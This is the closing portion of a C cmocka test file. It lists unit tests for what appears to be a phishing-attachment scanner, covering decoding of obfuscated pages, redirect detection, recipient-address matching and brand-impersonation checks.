		cmocka_unit_test(document_write_alone_is_not_obfuscated),
		cmocka_unit_test(identifiers_containing_markers_do_not_count),
		cmocka_unit_test(base64_page_is_decoded_once_and_scanned),
		cmocka_unit_test(blob_inside_decoded_blob_is_not_decoded_again),
		cmocka_unit_test(percent_escaped_script_is_decoded),
		cmocka_unit_test(event_handler_and_reversed_string_are_scripts),
		cmocka_unit_test(inline_jpeg_data_uri_is_counted_not_scanned),
		cmocka_unit_test(data_uri_iframe_page_is_decoded),
		cmocka_unit_test(meta_refresh_and_location_assignments_are_recorded),
		cmocka_unit_test(attachment_that_only_redirects_fires),
		cmocka_unit_test(recipient_address_is_found_plain),
		cmocka_unit_test(recipient_address_is_found_in_base64_at_every_alignment),
		cmocka_unit_test(other_addresses_are_not_the_recipient),
		cmocka_unit_test(fake_microsoft_page_with_victim_logo_names_brand_and_logo),
		cmocka_unit_test(logo_fetched_by_script_names_the_service),
		cmocka_unit_test(brand_page_posting_to_its_own_domain_is_not_called_foreign),
		cmocka_unit_test(brand_word_inside_another_word_is_not_the_brand),
		cmocka_unit_test(shift_jis_page_declared_by_meta_is_decoded),
		cmocka_unit_test(svg_attachment_with_remote_script_is_scanned),
		cmocka_unit_test(accepts_by_type_name_and_first_bytes_only),
		cmocka_unit_test(soup_nesting_and_nul_bytes_do_not_crash),
		cmocka_unit_test(find_ci_finds_the_first_place_in_either_case),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
